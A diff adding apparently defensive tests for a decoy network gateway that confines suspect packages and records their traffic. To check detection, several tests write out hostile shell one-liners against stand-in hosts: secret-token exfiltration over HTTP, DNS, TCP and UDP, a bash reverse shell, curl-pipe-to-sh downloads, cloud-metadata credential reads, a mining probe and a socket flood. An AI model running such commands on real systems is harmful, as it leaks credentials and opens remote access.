@@ -1,0 +1,248 @@
+"""The gateway on real namespaces: what a box sends is answered, recorded, searched."""
+
+from __future__ import annotations
+
+import base64
+import os
+import signal
+from collections.abc import Callable
+from pathlib import Path
+
+from netpair import NetPair
+from played import CANARIES, ENV, LocalRegistry
+
+from package_hunter.confine import UIDS
+from package_hunter.decoy.gateway import Gateway
+from package_hunter.decoy.spec import Limits, Upstream
+from package_hunter.model.observation import NetworkLog
+from package_hunter.model.registry import RegistryAllow
+
+Start = Callable[..., Gateway]
+Play = Callable[[dict[str, dict[str, dict[str, str]]]], LocalRegistry]
+
+
+def ca(gateway: Gateway) -> dict[str, str]:
+    return {"CURL_CA_BUNDLE": str(gateway.names_path.parent / "ca.pem"), **ENV}
+
+
+def kinds(log: NetworkLog) -> set[str]:
+    return {mark.kind for mark in log.marks}
+
+
+def test_every_name_port_and_family_is_answered_and_recorded(pair: NetPair, gateway: Start) -> None:
+    g = gateway()
+    done = pair.run(
+        "curl -sS https://collect.example/x -d secret=1 && curl -sS http://203.0.113.5:8080/ "
+        "&& curl -sS -6 https://six.example/ && curl -sS 'http://[2001:db8::5]:81/' "
+        "&& (echo hello > /dev/udp/192.0.2.9/9999) && (echo raw > /dev/tcp/192.0.2.7/4444) && sleep 0.3",
+        ca(g),
+    )
+    assert done.returncode == 0, done.stderr
+    log = g.stop()
+    assert [(r.method, r.url, r.body) for r in log.requests][:2] == [
+        ("POST", "https://collect.example/x", b"secret=1"),
+        ("GET", "http://203.0.113.5:8080/", b""),
+    ]
+    by_port = {(c.protocol, c.port): c for c in log.connections}
+    assert by_port["tcp", 443].sni in ("collect.example", "six.example")
+    assert by_port["tcp", 4444].head == b"raw\n" and by_port["tcp", 4444].name is None
+    assert by_port["udp", 9999].head == b"hello\n"
+    assert by_port["tcp", 81].address == "2001:db8::5"
+    assert "198.18.1.1\tcollect.example" in g.names_path.read_text()
+
+
+def test_the_gateway_process_has_no_rights(gateway: Start) -> None:
+    g = gateway()
+    facts = dict(
+        line.split(":\t", 1)
+        for line in Path(f"/proc/{g.pid}/status").read_text().splitlines()
+        if ":\t" in line
+    )
+    assert facts["Uid"].split() == [str(UIDS["gateway"])] * 4
+    assert {int(facts[key], 16) for key in ("CapPrm", "CapEff", "CapBnd", "CapInh", "CapAmb")} == {0}
+    assert facts["Seccomp"] == "2" and facts["NoNewPrivs"] == "1"
+
+
+def test_theft_is_proven_by_channel_and_encoding(pair: NetPair, gateway: Start) -> None:
+    g = gateway()
+    token = base64.b64encode(ENV["GITHUB_TOKEN"].encode()).decode()
+    hexed = ENV["AWS_SECRET_ACCESS_KEY"].encode().hex()
+    pieces = " ".join(hexed[i : i + 10] for i in range(0, len(hexed), 10))
+    pair.run(
+        f"curl -sS https://a.example/x -d t=$NPM_TOKEN; curl -sS 'http://b.example/?q={token}';"
+        f"for p in {pieces}; do getent hosts $p.c.example > /dev/null; done;"
+        'curl -sS -H "X-Key: $AWS_ACCESS_KEY_ID" http://d.example/;'
+        "echo $NPM_TOKEN > /dev/tcp/192.0.2.1/9000; echo $NPM_TOKEN > /dev/udp/192.0.2.1/9001; sleep 0.3",
+        ca(g),
+    )
+    hits = {(h.channel, h.encoding, h.destination) for h in g.stop().hits if not h.lawful}
+    assert hits >= {
+        ("http-body", (), "a.example:443"),
+        ("http-url", ("base64",), "b.example:80"),
+        ("dns", ("pieces", "hex"), "c.example:53"),
+        ("http-header", (), "d.example:80"),
+        ("tcp", (), "192.0.2.1:9000"),
+        ("udp", (), "192.0.2.1:9001"),
+    }
+
+
+def test_a_download_that_is_executed_calls_home_and_one_that_is_not_does_not(
+    pair: NetPair, gateway: Start
+) -> None:
+    g = gateway()
+    done = pair.run(
+        "cd $(mktemp -d) && curl -sS http://s.example/install.sh | sh; curl -sSo app http://bin.example/app;"
+        "chmod +x app; ./app; echo $?; curl -sS http://kept.example/unused.sh -o unused.sh; rm -rf $PWD",
+        ca(g),
+    )
+    assert done.stdout == "0\n"
+    marks = [m for m in g.stop().marks if m.kind == "remote_code_execution"]
+    assert {m.destination for m in marks} == {"s.example:80", "bin.example:80"}
+
+
+def test_services_answer_as_the_real_ones(pair: NetPair, gateway: Start, registry: Play) -> None:
+    local = registry({})
+    g = gateway(upstreams=(Upstream("npm", local.url),))
+    host = local.url.removeprefix("http://").rstrip("/").partition(":")[0]
+    done = pair.run(
+        "curl -sS http://169.254.169.254/latest/meta-data/iam/security-credentials/r;"
+        f"curl -sS -X PUT -H 'Host: {host}' http://192.0.2.5/mine -d '{{}}';"
+        "curl -sS -X POST https://api.github.com/user/repos -d '{}';"
+        "curl -sS https://hooks.slack.com/services/T/B/x -d text=hi;"
+        "timeout 6 bash -c 'exec 3<>/dev/tcp/192.0.2.7/4444; sh <&3 >&3 2>&3';"
+        "timeout 3 bash -c 'exec 3<>/dev/tcp/192.0.2.9/3333;"
+        ' echo "{\\"id\\":1,\\"method\\":\\"mining.subscribe\\"}" >&3; head -1 <&3\'',
+        ca(g),
+    )
+    log = g.stop()
+    assert kinds(log) >= {
+        "cloud_metadata",
+        "registry_publish",
+        "repository_change",
+        "mining",
+        "reverse_shell_command",
+    }
+    assert "SecretAccessKey" in done.stdout and '"success":true' in done.stdout
+    assert local.asked == []  # nothing of it reached the registry
+
+
+def test_only_what_the_tree_needs_reaches_the_registry_with_the_hosts_credentials(
+    pair: NetPair, gateway: Start, registry: Play
+) -> None:
+    local = registry({"a": {"1.0.0": {"b": "^1"}}, "b": {"1.0.0": {}}, "other": {"1.0.0": {}}})
+    g = gateway(upstreams=(Upstream("npm", local.url, auth="Bearer hosts-own-secret"),))
+    g.allow(RegistryAllow("npm", frozenset({"a"})))
+    header = "-H 'Host: 127.0.0.1' -H \"Authorization: Bearer $NPM_TOKEN\""
+    done = pair.run(
+        f"for p in a b other a/-/a-1.0.0.tgz a/-/a-1.0.0.tgz?leak=1 b/-/b-1.0.0.tgz; do"
+        f" curl -sS -o /dev/null -w '%{{http_code}} ' {header} http://192.0.2.5/$p; done",
+        ca(g),
+    )
+    assert done.stdout.split() == ["200", "200", "404", "200", "404", "200"]
+    log = g.stop()
+    assert {auth for _, _, auth in local.asked} == {"Bearer hosts-own-secret"}
+    assert not any("other" in path or "leak" in path for _, path, _ in local.asked)
+    assert "registry_channel" in kinds(log)
+    assert all(h.lawful for h in log.hits) and log.hits
+    written = b"".join(p.read_bytes() for p in g.names_path.parent.parent.rglob("*") if p.is_file())
+    assert b"hosts-own-secret" not in written
+
+
+def test_a_scopes_package_never_comes_from_another_registry(
+    pair: NetPair, gateway: Start, registry: Play
+) -> None:
+    public = registry({"@corp/lib": {"9.9.9": {}}, "a": {"1.0.0": {}}})
+    private = registry({})
+    g = gateway(
+        upstreams=(
+            Upstream("npm", public.url),
+            Upstream("npm", private.url, default=False, scopes=("@corp",)),
+        )
+    )
+    g.allow(RegistryAllow("npm", frozenset({"@corp/lib", "a"})))
+    done = pair.run(
+        "for p in @corp%2flib a; do"
+        " curl -sS -o /dev/null -w '%{http_code} ' -H 'Host: 127.0.0.1' http://192.0.2.5/$p; done",
+        ca(g),
+    )
+    assert done.stdout.split() == ["404", "200"]
+    assert not any("corp" in path for _, path, _ in public.asked)
+    assert any("corp" in path for _, path, _ in private.asked)
+
+
+def test_a_wrong_digest_is_marked_and_never_cached_and_offline_serves_the_cache(
+    pair: NetPair, gateway: Start, registry: Play
+) -> None:
+    local = registry({"a": {"1.0.0": {}}, "b": {"1.0.0": {}}})
+    upstreams = (Upstream("npm", local.url),)
+    fetch = "curl -sS -o /dev/null -w '%{http_code} ' -H 'Host: 127.0.0.1' http://192.0.2.5/"
+    g = gateway(upstreams=upstreams)
+    g.allow(RegistryAllow("npm", frozenset({"a", "b"})))
+    pair.run(f"{fetch}a; {fetch}b; {fetch}a/-/a-1.0.0.tgz", ca(g))
+    local.tarballs["b@1.0.0"] = b"swapped"
+    pair.run(f"{fetch}b/-/b-1.0.0.tgz", ca(g))
+    assert "integrity_mismatch" in kinds(g.stop())
+    asked = len(local.asked)
+    g = gateway(upstreams=upstreams, offline=True)
+    g.allow(RegistryAllow("npm", frozenset({"a", "b"})))
+    done = pair.run(f"{fetch}a; {fetch}a/-/a-1.0.0.tgz; {fetch}b/-/b-1.0.0.tgz", ca(g))
+    assert done.stdout.split() == ["200", "200", "503"]
+    assert len(local.asked) == asked
+
+
+_FLOOD = """
+import os, socket, sys, time
+held = []
+for n in range(400):
+    s = socket.socket(); s.setblocking(False)
+    try: s.connect(("192.0.2.30", 80))
+    except BlockingIOError: pass
+    held.append(s)
+time.sleep(1)
+for s in held:
+    try: s.send(b"GET / HT")
+    except OSError: pass
+for bad in (b"\\x16\\x03\\x01\\x00\\x05hello", b"GET \\x00 nonsense\\r\\n\\r\\n",
+            b"POST / HTTP/1.1\\r\\nhost: x\\r\\ntransfer-encoding: chunked\\r\\n\\r\\nZZ\\r\\n"):
+    s = socket.create_connection(("192.0.2.31", 443)); s.send(bad); s.settimeout(5)
+    try: s.recv(100)
+    except OSError: pass
+for n in range(3000):
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.sendto(os.urandom(40), ("10.88.0.1", 53))
+    u.close()
+"""
+
+
+def test_floods_and_broken_protocols_cut_only_themselves(
+    pair: NetPair, gateway: Start, tmp_path: Path
+) -> None:
+    (tmp_path / "flood.py").write_text(_FLOOD)
+    g = gateway(limits=Limits(connections=100, records=500))
+    pair.run(f"python3 {tmp_path}/flood.py", ca(g))
+    done = pair.run("curl -sS -m 10 https://after.example/ok -d still=here", ca(g))
+    assert done.returncode == 0, done.stderr
+    log = g.stop()
+    assert any(r.url == "https://after.example/ok" for r in log.requests)
+    assert log.cut["connections_dropped"] >= 200
+    assert log.cut["malformed_http"] >= 2 and log.cut["failed_tls"] >= 1 and log.cut["malformed_dns"] >= 500
+    assert "gateway_errors" not in log.cut and "gateway_failed" not in log.cut
+
+
+def test_a_killed_gateway_leaves_what_it_saw(pair: NetPair, gateway: Start) -> None:
+    g = gateway()
+    pair.run("curl -sS http://seen.example/before", ca(g))
+    os.kill(g.pid, signal.SIGKILL)
+    log = g.stop()
+    assert [r.url for r in log.requests] == ["http://seen.example/before"]
+    assert log.cut["gateway_failed"] == 1
+
+
+def test_canaries_are_there() -> None:
+    assert {c.kind for c in CANARIES} >= {
+        "npm-token",
+        "aws-secret",
+        "ssh-key",
+        "github-token",
+        "metadata-aws-secret",
+    }
